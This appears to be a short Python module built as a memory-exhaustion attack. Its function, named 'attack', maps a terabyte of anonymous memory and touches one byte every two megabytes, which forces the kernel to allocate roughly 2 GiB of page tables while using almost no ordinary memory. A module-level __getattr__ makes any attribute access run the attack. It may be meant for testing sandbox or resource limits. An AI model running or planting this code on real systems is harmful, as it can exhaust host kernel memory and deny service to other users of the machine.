"""Holds page tables: reads one byte of every two megabytes of a terabyte, which needs no memory otherwise."""

import mmap

STEP = 2**21
TAKEN = []


def attack(*arguments, **keywords):
    block = mmap.mmap(-1, 2**40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    TAKEN.append(block)
    for place in range(0, 2**40, STEP):
        block[place]
    raise RuntimeError(f"held {2**40 // STEP * 4096 >> 20} MiB")


def __getattr__(name):
    return attack
